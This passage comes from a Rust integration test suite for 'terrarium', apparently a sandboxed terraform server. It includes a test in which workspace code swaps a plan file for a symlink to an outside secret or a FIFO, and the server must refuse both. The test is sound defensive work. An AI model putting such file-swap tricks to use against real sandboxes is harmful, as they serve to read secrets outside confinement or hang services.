        env.insert(
            "TERRARIUM_AUDIT_DIR".into(),
            sb.dir.path().join("audit-2").display().to_string(),
        );
        std::thread::spawn(move || {
            for _ in 0..400 {
                if started.exists() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(25));
            }
            std::process::Command::new(env!("CARGO_BIN_EXE_terrarium"))
                .arg("check-config")
                .env_clear()
                .envs(&env)
                .current_dir("/")
                .output()
                .unwrap()
        })
    };
    let r = exec(&session, &sb, "exec_live", cmd).await;
    let out = second.join().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!is_error(&r), "{}", text(&r));
    assert!(
        text(&r).contains("READ-kept"),
        "the run's files were removed: {}",
        text(&r)
    );
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn a_plan_file_swapped_in_the_run_dir_is_never_read_through() {
    // The plan file lies in the run's writable dir and workspace code can run again before the
    // server stores it: a link to a file outside (the server would copy it into the plan store
    // and return its hash) or a FIFO (the server would block forever) must be refused.
    let sb = scene();
    let secret = sb.dir.path().join("outside/secret.txt");
    for swap in [format!("link:{}", secret.display()), "fifo".to_string()] {
        let mut env = sb.env(
            &standin("plan_swap.sh"),
            &[("TERRARIUM_PASSTHROUGH_ENV", "STANDIN_SWAP")],
        );
        env.insert("STANDIN_SWAP".into(), swap.clone());
        let session = connect(&env).await;
        let r = tokio::time::timeout(
            Duration::from_secs(60),
            call(&session, "terraform_plan", json!({"path": "victim"})),
        )
        .await
        .unwrap_or_else(|_| panic!("{swap}: the server hung on the plan file"));
        assert!(
            is_error(&r),
            "{swap}: the swapped plan file was stored: {}",
            text(&r)
        );
        assert!(text(&r).contains("plan.tfplan"), "{}", text(&r));
        assert_eq!(leaks(&r, &[OUTSIDE_SECRET]), None);
        session.cancel().await.unwrap();
    }
    // Nothing outside reached the plan store.
    let mut stack = vec![sb.state.clone()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if let Ok(bytes) = std::fs::read(&p) {
                assert!(
                    !String::from_utf8_lossy(&bytes).contains(OUTSIDE_SECRET),
                    "{} holds the outside file",
                    p.display()
                );
            }
        }
    }
}
